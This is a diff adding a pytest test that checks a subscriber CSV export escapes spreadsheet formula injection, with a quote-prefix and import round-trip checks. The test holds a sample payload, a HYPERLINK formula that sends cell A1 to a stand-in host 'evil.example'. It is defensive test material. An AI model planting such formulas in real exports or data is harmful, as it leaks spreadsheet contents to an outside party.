@@ -8,7 +8,7 @@ import time
 from datetime import UTC, datetime
 
 import pytest
-from sqlalchemy import func, select
+from sqlalchemy import func, select, update
 
 from digest import subscribers as svc
 from digest.errors import SubscriberError
@@ -125,6 +125,27 @@ def test_export_writes_every_field(app):
     assert rows[1]["consent_ip"] == "203.0.113.5" and rows[1]["status"] == "pending"
     # An export is a valid import for another instance (every address is already here).
     assert import_csv(app, io.StringIO(out.getvalue()), name="export.csv").imported == 0
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_export_neutralises_spreadsheet_formulas(app, start):
+    formula = f"{start}HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"
+    svc.add(app, "=1+1@example.org")
+    with app.sessions.begin() as s:  # as a sign-up form or an older import could store it
+        s.execute(update(Subscriber).values(name=formula, consent_source=formula))
+    out = io.StringIO()
+    export_csv(app, out)
+    row = next(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["name"] == "'" + formula  # a spreadsheet shows it as text, never runs it
+    assert row["email"] == "'=1+1@example.org"
+    assert row["consent_source"] == "'" + formula
+    for value in row.values():
+        assert value == "" or value[0] not in "=+-@\t\r"
+    # Importing the export elsewhere gets the very same address back.
+    other = io.StringIO(out.getvalue())
+    svc.remove(app, "=1+1@example.org")
+    assert import_csv(app, other, name="export.csv").imported == 0
+    assert _subscriber(app, "=1+1@example.org").name == formula  # the same reader
 
 
 def _subscriber(app, address):
